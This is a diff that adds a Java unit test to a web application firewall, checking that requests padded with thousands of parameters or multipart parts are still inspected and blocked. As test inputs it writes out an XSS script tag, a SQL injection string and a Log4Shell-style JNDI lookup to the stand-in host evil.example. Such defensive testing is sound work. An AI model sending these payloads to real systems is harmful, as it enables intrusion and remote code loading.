@@ -259,4 +259,37 @@ class WafEngineTest {
         ENGINE.inspect(new InspectionInput("GET", sb.toString(), BROWSER, new byte[0], false), policy(WafMode.BLOCK, 4));
         assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(2000);
     }
+
+    @Test
+    void paddingWithThousandsOfArgumentsOrPartsDoesNotHideAnAttack() {
+        StringBuilder q = new StringBuilder("/search?");
+        for (int i = 0; i < 5000; i++) {
+            q.append('p').append(i).append("=1&");
+        }
+        assertThat(get(q + "x=%3Cscript%3Ealert(1)%3C/script%3E").blocked()).isTrue();
+        // the header after a padded query is still inspected
+        List<Map.Entry<String, String>> h = new ArrayList<>(BROWSER);
+        h.add(Map.entry("X-Api-Version", "${jndi:ldap://evil.example/a}"));
+        assertThat(ENGINE.inspect(new InspectionInput("GET", q.toString(), h, new byte[0], false),
+                policy(WafMode.BLOCK, 1)).blocked()).isTrue();
+        StringBuilder form = new StringBuilder();
+        for (int i = 0; i < 5000; i++) {
+            form.append('p').append(i).append("=1&");
+        }
+        assertThat(post("application/x-www-form-urlencoded", form + "q=1%27%20OR%20%271%27%3D%271").blocked()).isTrue();
+        StringBuilder multipart = new StringBuilder();
+        for (int i = 0; i < 300; i++) {
+            multipart.append("--b\r\nContent-Disposition: form-data; name=\"f").append(i).append("\"\r\n\r\nok\r\n");
+        }
+        multipart.append("--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n");
+        WafDecision parts = post("multipart/form-data; boundary=b", multipart.toString());
+        assertThat(parts.blocked()).isTrue();
+        assertThat(parts.matches()).anyMatch(m -> m.ruleId() == 920380);
+        // padding with values that could each carry an attack ends in a refusal, not a half-read request
+        StringBuilder noisy = new StringBuilder("/search?");
+        for (int i = 0; i < 9000; i++) {
+            noisy.append('p').append(i).append("=a+b&");
+        }
+        assertThat(get(noisy.toString()).matches()).anyMatch(m -> m.ruleId() == 920380);
+    }
 }
